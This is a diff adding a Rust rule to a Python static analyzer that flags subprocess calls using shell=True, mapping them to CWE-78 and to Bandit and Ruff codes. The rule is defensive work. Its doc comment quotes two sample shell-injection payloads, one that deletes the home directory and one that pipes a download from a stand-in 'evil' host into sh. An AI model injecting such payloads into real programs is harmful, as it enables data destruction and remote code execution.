@@ -1,0 +1,77 @@
+use crate::call_pattern::{Arg, CallPattern, Cond};
+use crate::declare_rule;
+use crate::rule::Category;
+use vigil_report::{Confidence, Severity};
+
+const SHELL_FUNCTIONS: &[&str] = &[
+    "subprocess.Popen",
+    "subprocess.call",
+    "subprocess.check_call",
+    "subprocess.check_output",
+    "subprocess.run",
+];
+
+const COMMAND: Arg = Arg::at(0, "args");
+
+declare_rule! {
+    /// ## What it does
+    /// Flags `subprocess` calls that run their command through a shell
+    /// (`shell=True`) when the command is built at run time.
+    ///
+    /// ## Why is this bad?
+    /// With `shell=True` the command string is parsed by `/bin/sh` (or
+    /// `cmd.exe`). Any part of it that comes from outside — a file name, a
+    /// form field, a branch name — can carry shell syntax such as `; rm -rf ~`
+    /// or `$(curl evil | sh)`, and the shell will run it: OS command
+    /// injection. A command that is a fixed literal is only an audit note.
+    ///
+    /// ## Example
+    /// ```python
+    /// subprocess.run(f"convert {upload} out.png", shell=True)
+    /// ```
+    ///
+    /// ## Use instead
+    /// Pass the program and its arguments as a list, without a shell:
+    /// ```python
+    /// subprocess.run(["convert", upload, "out.png"])
+    /// ```
+    /// If a shell is unavoidable, quote every dynamic part with `shlex.quote`.
+    ///
+    /// ## References
+    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
+    /// - Python docs: subprocess — Security Considerations
+    pub static RULE = {
+        name: "subprocess-shell-true",
+        category: Category::Injection,
+        cwe: &[78],
+        severity: Severity::High,
+        confidence: Confidence::High,
+        bandit: &["B602", "B604"],
+        ruff: &["S602", "S604"],
+        help: "Pass the command as a list of arguments without `shell=True`; if a shell is unavoidable, quote every dynamic part with `shlex.quote()`.",
+        calls: &[
+            CallPattern::new(
+                SHELL_FUNCTIONS,
+                &[Cond::Truthy(Arg::kw("shell")), Cond::NonLiteral(COMMAND)],
+                "`{callee}` runs a command built at run time through a shell (`shell=True`): shell metacharacters in it are executed",
+            ),
+            CallPattern::new(
+                SHELL_FUNCTIONS,
+                &[Cond::Truthy(Arg::kw("shell")), Cond::Literal(COMMAND)],
+                "`{callee}` runs a fixed command through a shell (`shell=True`)",
+            )
+            .audit(Severity::Low),
+            CallPattern::new(
+                &["subprocess.getoutput", "subprocess.getstatusoutput"],
+                &[Cond::NonLiteral(Arg::at(0, "cmd"))],
+                "`{callee}` always runs its command through a shell, and this command is built at run time",
+            ),
+            CallPattern::new(
+                &["subprocess.getoutput", "subprocess.getstatusoutput"],
+                &[Cond::Literal(Arg::at(0, "cmd"))],
+                "`{callee}` runs a fixed command through a shell",
+            )
+            .audit(Severity::Low),
+        ],
+    };
+}
